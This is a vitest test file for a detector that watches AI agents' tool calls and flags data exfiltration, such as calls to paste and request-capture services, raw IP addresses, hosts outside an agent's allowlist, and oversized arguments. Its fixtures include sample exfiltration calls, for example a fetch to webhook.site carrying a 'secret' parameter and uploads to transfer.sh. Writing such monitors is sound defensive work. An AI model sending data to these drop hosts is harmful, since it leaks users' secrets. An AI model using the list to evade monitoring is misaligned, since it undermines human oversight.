import { describe, expect, it } from "vitest";
import type { AgentEvent } from "../services/runtime/model.ts";
import { DROP_HOSTS, exfiltration, hostMatches, targetHosts } from "./exfiltration.ts";

const T0 = Date.parse("2026-11-20T10:00:00Z");
const detector = exfiltration({
  allowlists: { "support-bot": ["api.shop.example", "*.zendesk.example"] },
  dropHosts: DROP_HOSTS,
  flagRawIps: true,
  largeMinBytes: 4096,
  largeAbsoluteBytes: 256 * 1024,
  largeRobustZ: 6,
  largeMinRatio: 5,
  cooldownMs: 3_600_000,
  entityTtlMs: 7 * 86_400_000,
  severity: "warning",
});

let seq = 0;
function call(tool: AgentEvent["tool"], agent = "support-bot", at = T0) {
  seq += 1;
  return {
    event: {
      id: `t${seq}`,
      time: new Date(at).toISOString(),
      type: "tool_call",
      agent_id: agent,
      tool,
    } as AgentEvent,
    time: at,
  };
}

describe("exfiltration", () => {
  it("flags paste and request-capture hosts as critical, also inside arguments", () => {
    const state = detector.initialState();
    const a = detector.update(
      state,
      call({ name: "http_post", target: "https://pastebin.com/api/api_post.php" }),
    );
    expect(a[0]).toMatchObject({
      severity: "critical",
      key: "host:pastebin.com",
      observed: { reason: "drop_host" },
    });
    const b = detector.update(
      state,
      call({ name: "fetch", arguments: { url: "https://abc123.webhook.site/x?d=secret" } }, "coding-agent"),
    );
    expect(b.map((f) => f.key)).toEqual(["host:abc123.webhook.site"]);
  });

  it("flags raw IP targets and hosts outside the agent's allowlist", () => {
    const state = detector.initialState();
    const ip = detector.update(
      state,
      call({ name: "http_get", target: "203.0.113.50:8080" }, "coding-agent"),
    );
    expect(ip[0]).toMatchObject({ key: "host:203.0.113.50", observed: { reason: "raw_ip" } });
    const v6 = detector.update(
      state,
      call({ name: "http_get", target: "http://[2001:db8::1]/x" }, "coding-agent"),
    );
    expect(v6[0]?.key).toBe("host:2001:db8::1");
    const outside = detector.update(state, call({ name: "http_get", target: "https://evil.example.net/" }));
    expect(outside[0]).toMatchObject({
      key: "host:evil.example.net",
      observed: { reason: "not_allowlisted" },
    });
    expect(detector.update(state, call({ name: "http_get", target: "api.shop.example" }))).toEqual([]);
    expect(
      detector.update(state, call({ name: "http_get", target: "https://eu.zendesk.example/t/1" })),
    ).toEqual([]);
    // No allowlist for this agent: ordinary hosts are fine.
    expect(
      detector.update(state, call({ name: "http_get", target: "docs.python.org" }, "coding-agent")),
    ).toEqual([]);
  });

  it("alerts once per host per cooldown", () => {
    const state = detector.initialState();
    const first = detector.update(state, call({ name: "upload", target: "transfer.sh" }));
    const again = detector.update(
      state,
      call({ name: "upload", target: "transfer.sh" }, "support-bot", T0 + 60_000),
    );
    const later = detector.update(
      state,
      call({ name: "upload", target: "transfer.sh" }, "support-bot", T0 + 2 * 3_600_000),
    );
    expect([first.length, again.length, later.length]).toEqual([1, 0, 1]);
  });

  it("flags arguments far larger than the tool's usual, and any over the absolute size", () => {
    const state = detector.initialState();
    const usual = [];
    for (let i = 0; i < 40; i += 1) {
      usual.push(
        ...detector.update(
          state,
          call({
            name: "send_email",
            arguments: { to: "a@b.example", body: "x".repeat(300 + (i % 7) * 40) },
          }),
        ),
      );
    }
    expect(usual).toEqual([]);
    const big = detector.update(
      state,
      call({ name: "send_email", arguments: { to: "a@b.example", body: "y".repeat(60_000) } }),
    );
    expect(big[0]).toMatchObject({ key: "args:send_email", labels: { tool: "send_email" } });
    expect((big[0]!.observed as { argument_bytes: number }).argument_bytes).toBeGreaterThan(60_000);
    const fresh = detector.initialState();
    const huge = detector.update(
      fresh,
      call({ name: "notes", arguments: { text: "z".repeat(300 * 1024) } }, "new-agent"),
    );
    expect(huge.map((f) => f.key)).toEqual(["args:notes"]);
  });

  it("extracts hosts and matches allowlist patterns", () => {
    expect(
      targetHosts({
        tool: {
          name: "x",
          target: "Example.COM.",
          arguments: { u: "see http://a.example/b and https://c.example" },
        },
      } as unknown as AgentEvent),
    ).toEqual(["example.com", "a.example", "c.example"]);
    expect(hostMatches("a.zendesk.example", "*.zendesk.example")).toBe(true);
    expect(hostMatches("zendesk.example", "*.zendesk.example")).toBe(false);
    expect(hostMatches("evilzendesk.example", "*.zendesk.example")).toBe(false);
    expect(hostMatches("api.shop.example", "API.shop.example")).toBe(true);
  });
});
